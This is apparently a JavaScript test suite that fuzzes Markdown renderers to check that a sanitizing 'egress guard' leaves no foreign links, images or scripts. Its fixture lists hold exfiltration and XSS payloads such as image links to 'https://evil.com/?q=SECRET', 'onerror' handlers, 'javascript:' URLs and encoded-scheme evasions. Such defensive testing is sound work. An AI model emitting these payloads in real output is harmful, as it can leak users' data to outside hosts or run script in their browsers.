// Output of the egress guard in real renderers: nothing foreign is loaded, linked or run.
import assert from 'node:assert/strict';
import {spawnSync} from 'node:child_process';
import {readFileSync} from 'node:fs';
import {test} from 'node:test';

import MarkdownIt from 'markdown-it';
import {Marked} from 'marked';
import * as parse5 from 'parse5';

// Hosts without a scheme are guessed at by markdown-it's `linkify` alone: that is not promised.
const linkify = new MarkdownIt({html: true, linkify: true});
linkify.linkify.set({fuzzyLink: false, fuzzyEmail: false});
const renderers = {
  'marked': (text) => new Marked({gfm: true}).parse(text),
  'marked without GFM': (text) => new Marked({gfm: false}).parse(text),
  'marked with breaks': (text) => new Marked({gfm: true, breaks: true}).parse(text),
  'markdown-it': (text) => new MarkdownIt({html: true}).render(text),
  'markdown-it as CommonMark': (text) => new MarkdownIt('commonmark', {html: true}).render(text),
  'markdown-it with linkify': (text) => linkify.render(text),
};

const addresses = new Set(['href', 'src', 'action', 'formaction', 'data', 'poster', 'background', 'xlink:href', 'cite',
  'ping', 'manifest', 'longdesc', 'codebase', 'classid', 'archive', 'profile', 'icon', 'dynsrc', 'lowsrc', 'usemap']);
const inStyle = (text) => [...text.matchAll(/url\s*\(\s*["']?([^"')]*)|@import\s+["']?([^"';]*)/gi)].map((m) => m[1] ?? m[2]);

/** Every address that an attribute names. */
function inAttribute(name, value) {
  if (/^on./.test(name) && value !== '') return [`javascript:${value}`];
  if (name === 'style') return inStyle(value);
  if (name === 'srcset' || name === 'imagesrcset') return value.split(/,\s+|,(?=\S+\s)/).map((one) => one.trim().split(/\s+/)[0]);
  if (name === 'content') return [...value.matchAll(/url\s*=\s*["']?(.*)/gi)].map((m) => m[1]);
  if (name === 'srcdoc') return collect(value);
  return addresses.has(name) ? [value] : [];
}

/** Every address in a page that a browser could load, follow or run. */
function collect(html) {
  const found = [];
  const walk = (node) => {
    for (const {name, value, prefix} of node.attrs ?? []) found.push(...inAttribute(prefix ? `${prefix}:${name}` : name, value));
    if (node.tagName === 'style') found.push(...inStyle(node.childNodes.map((one) => one.value ?? '').join('')));
    if (node.tagName === 'script') found.push('javascript:');
    (node.childNodes ?? []).forEach(walk);
    if (node.content) walk(node.content);
  };
  walk(parse5.parse(html));
  return found;
}

/** Whether an address is none of those that tests/egress allows; mail loads nothing. */
function foreign(address) {
  const url = URL.parse ? URL.parse(address, 'https://app.example/') : URL.canParse(address, 'https://app.example/') ? new URL(address, 'https://app.example/') : null;
  if (url === null) return /^[\s\u0000]*([a-z][a-z0-9+.-]*:|[\\/]{2})/i.test(address);
  if (url.protocol === 'mailto:' || url.host === 'app.example') return false;
  if (url.protocol !== 'https:' || url.username !== '' || url.port !== '') return true;
  return !url.hostname.endsWith('.good.example') && url.href !== 'https://ref.example/page?a=1';
}

function guarded(documents, bound) {
  const run = spawnSync(process.env.CITESTREAM_GUARD_DOCUMENTS, bound === undefined ? [] : [String(bound)], {input: documents.join('\x1e'), encoding: 'utf8', maxBuffer: 1 << 28});
  assert.equal(run.status, 0, run.stderr);
  const out = run.stdout.split('\x1e');
  assert.equal(out.length, documents.length);
  return out;
}

/** Checks all documents, with `bound` bytes withheld at most. \return how many foreign addresses their renderings have without the guard */
function check(documents, bound) {
  let without = 0;
  guarded(documents, bound).forEach((text, at) => {
    for (const [name, render] of Object.entries(renderers)) {
      without += collect(render(documents[at])).filter(foreign).length;
      const leaks = collect(render(text)).filter(foreign);
      assert.deepEqual(leaks, [], `${name}: ${JSON.stringify(documents[at])} left as ${JSON.stringify(text)}`);
    }
  });
  return without;
}

const payloads = [...readFileSync(process.env.CITESTREAM_PAYLOADS, 'utf8').matchAll(/^## .*\n\n`````text\n([^]*?)\n?`````\n/gm)]
  .map((m) => m[1].replace(/[\u2400-\u240d]/g, (picture) => String.fromCharCode(picture.charCodeAt(0) - 0x2400)));

test('no known payload loads or links anything foreign', () => {
  assert.ok(payloads.length >= 100);
  assert.ok(check(payloads) > 400);
});

let seed = 11;
function below(n) {
  seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0;
  return Math.floor((seed / 4294967296) * n);
}
const pick = (all) => all[below(all.length)];

test('nor do payloads cut and joined', () => {
  const cut = () => { const one = pick(payloads); return one.slice(below(one.length), 1 + below(one.length)); };
  check(Array.from({length: 700}, () => Array.from({length: 2 + below(4)}, cut).join(pick(['', '', '\n', ' ']))));
});

test('nor does random Markdown', () => {
  const urls = ['https://evil.com/?q=SECRET', 'http://evil.com/SECRET', '//evil.com/SECRET', 'www.evil.com/SECRET',
    'HTTPS://EVIL.com/SECRET', 'https:evil.com/SECRET', '\\\\evil.com/SECRET', 'javascript:alert(1)', 'ftp://evil.com/SECRET',
    '&#x68;ttps://evil.com/SECRET', 'https&colon;//evil.com/SECRET', 'https://x.good.example@evil.com/SECRET',
    'https://x.good.example.evil.com/SECRET', '/\\evil.com/SECRET', 'https:\\/\\/evil.com/SECRET',
    'https://a.good.example/x', 'https://ref.example/page?a=1', '#part', 'a.html'];
  const pieces = ['![a](U)', '[b](U)', '[b](<U>)', '[b](U "t")', "[b](U\n'x y')", '\n[x]: U\n', '\n[x]:\nU\n', '\n[x]: <U> "t"\n',
    '[x]', '[t][x]', '<U>', 'U', 'U', '<img src="U">', '<img src=U>', "<a href='U'>", '</a>', '<p style="background:url(U)">',
    '<div>', '</div>', '<b>', '<pre>', '</pre>', '<iframe src=U', '<!--', '-->', '<style>', '</style>', '`', '``', '`', '```',
    '\n```\n', '\n```\n', '\n~~~\n', '\n````js\n', '\n\n', '\n', '\n', '\n- ', '\n1. ', '\n   ', '\n    ', '\n> ', '\n  - ', '\n2. ',
    ' ', ' ', 'word', 'word two', '\\', '[', ']', '(', ')', '!', '<', '>', '"', "'", ':', '/', '.', 'w', 'www', 'https', 'evil.com',
    '|', '\n| a | b |\n|---|---|\n| ', '*', '**', '_', '&', '&#58;', '\t', '\r\n', '\r', '~~', '# ', '---', '=', ' x=', '\uFEFF',
    '\u00a0', 'é', '[^1]', '\n[^1]: ', 'ht[tps', '](', ']:', '![', '[](', '\n[x]: a "', '<b ', '</', '@'];
  const piece = () => pick(pieces).replace('U', () => pick(urls));
  assert.ok(check(Array.from({length: 700}, () => Array.from({length: 2 + below(14)}, piece).join(''))) > 1000);
});

const evil = ['![i](https://evil.com/S)', '[l](javascript:x)', '<img src=x onerror=x>', '<https://evil.com>', '[l](https://evil.com/S)',
  '![i](http:evil.com)', '<a href=//evil.com>', '[y]: javascript:x', '[y]', '![y]', '[t][y]', '!\\[i\\](http:evil.com)', '![i\\](http:evil.com)'];
const marks = ['`', '`', '`', '``', '```', '~', '~~', '*', '**', '_', '__', '[', '[', ']', '![', '](', '(', ')', '<', '>', '\\', '!', '"', "'",
  ' ', ' ', 'a', 'b c', '\n', '\n', '|', ':', '[x] ', '[a]', '[`a`]', '[a`b]', '[a](#p "`")', "[a](a.html '`')", '[a`](#p)', '](#p)', '](#p)',
  '[`a`](https://a.good.example/x)', '<b>', '<b title="`">', '<a `', '~`', '`~', '_a', '[y]: ', '[y]: a.html\n', '[a`b]: ', ' "`"', '<!--',
  '&', '&#', '58;', 'https://a.good.example/', '[^1]: ', '\u00a0', '\u3000', '\ufeff', '\t', '\f', '\r\n', '<iframe>', '<b x=y>', '<p:>',
  'javascript:x', '//e.com', '(<iframe>', ']:<', 'www', '.e.com', 'http', '://', '\\[', '\\]', '\\!', '\\<', '\\`', '\\|', '[x', '][y]',
  '" onerror=x y', '![x" onerror="x', '"a\n\n```\n"\n', '[a\n\nb]: ', '[^a]: ', '_', '[](http:evil.com)', '![](http:evil.com)',
  '<frame>', '<frame>', '\r<frame>\n', '\u2028', '\u2028>', '\\😀', '#x', '//x', '@', 'localhost', 'https://ref.example/p%61ge?a=1',
  'https://ref.example/page?a=1', '\x01', '}', '> > ', '<3', 'https://a.good.example'];
const starts = ['', '', '- ', '- [x] ', '* [ ] ', '1. ', '> ', '> - ', '# ', '    ', '\n', '| a | b |\n|--|--|\n| ', '- a\n  ', '- a\n\n  ',
  '<div>\n', '<p>', '```\n', '~~~\n', 'word\n', '[y]: a.html\n', '[`]: a.html\n', '[y]:\n', '- - ', '---\n', '<pre>', '- [x] [y]: ', '[y]: a.html ', '-\n  ```\n  \t```\n  ',
  '> - a\n#x\n> - b\n5. y\n', '> 1. a\n\tx\n> 1. b\n#y\n', '> ', '#x\n', '5. ',
  '> - a \nx\n', '> > - a\n> #x\n', '> # h\n-\tb\n> c\n#x\n', '> - # a\nx\n'];
const some = (most, all) => Array.from({length: below(most + 1)}, () => pick(all)).join('');

test('nor does what stands in or beside code', () => {
  check(Array.from({length: 900}, () => pick(starts) + some(4, marks) + pick(['`', '``']) + some(2, marks) + pick(evil) + some(3, marks) +
    pick(['`', '``', '', '*`', '~~`']) + pick(['', '\n\n[y]', '\n\n![y]\n', '\n' + pick(starts) + pick(evil)])));
});

test('nor do lines of any markup', () => {
  const line = () => pick(starts) + some(3, [...marks, ...evil, ...evil]) + pick(['\n', '\n', '\n\n', '\n  ', '\n> ']);
  check(Array.from({length: 900}, () => Array.from({length: 2 + below(5)}, line).join('') + pick(['', '[y]', '![y]'])));
});

test('nor does what is cut by the bound', () => {
  const open = ['[', '![', '`', '<img ', '<', '[y]:', '[y]:\n#', '[a](#p "', 'https://a.good.example/', '<https://', '&', '``', '[['];
  const piece = () => pick(open) + 'p'.repeat(below(20)) + pick([pick(marks), pick(evil)]);
  for (let bound = 16; bound < 56; bound += 5) check(Array.from({length: 100}, () => pick(starts) + Array.from({length: 1 + below(4)}, piece).join('')), bound);
  const fill = [(p) => `[${p}](javascript:x)`, (p) => `![${p}](http:evil.com)`, (p) => `![${p}<img src=x onerror=x>`, (p) => `[${p}<http:evil.com>`,
    (p) => `[${p}![i](http:evil.com)`, (p) => `<img ${p}[l](<javascript:x>)`, (p) => `[y]:\n #${p}[l](javascript:x)`, (p) => `\`<${p} [l](javascript:x)`,
    (p) => `https://a.good.example/${p}[l](javascript:x)`, (p) => `[${p} \`<img src=x onerror=x>`, (p) => `[${p}\n[y]: javascript:x\n\n[y]`,
    (p) => `[${p}https&#58;//evil.com`, (p) => `[a](#p "${p}")[l](javascript:x)`, (p) => `[${p}!\\[i\\](http:evil.com)](#p)`];
  check(fill.flatMap((make) => Array.from({length: 40}, (_, n) => make('p'.repeat(n)))), 16);
  check(fill.flatMap((make) => Array.from({length: 12}, (_, n) => make('p'.repeat(4084 + n)))));
});
